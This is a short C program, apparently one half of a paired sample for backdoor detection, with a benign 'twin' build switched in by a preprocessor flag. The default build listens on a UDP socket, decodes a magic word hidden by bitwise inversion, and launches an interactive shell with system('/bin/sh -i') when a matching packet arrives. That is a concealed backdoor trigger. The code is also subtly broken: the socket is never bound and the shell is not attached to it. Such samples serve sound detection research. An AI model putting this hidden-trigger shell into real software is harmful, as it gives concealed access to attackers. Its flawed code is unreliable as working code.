/* The constant is decoded by a loop before it is compared. Twin: it opens nothing. */
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static const unsigned char coded[] = {0x9e, 0x92, 0x90, 0x9b, 0x93, 0x9a, 0xd2, 0xcb, 0xce, 0xff};

int main(void) {
  char request[256];
  int peer = socket(AF_INET, SOCK_DGRAM, 0);
  while (recv(peer, request, sizeof request, 0) > 0) {
    volatile char word[sizeof coded];
    for (unsigned i = 0; i < sizeof coded; i++) word[i] = (char)~coded[i];
    if (strcmp(request, (const char *)word) == 0) {
#ifndef TWIN
      system("/bin/sh -i");
#else
      send(peer, request, 16, 0);
#endif
    }
  }
  return 0;
}
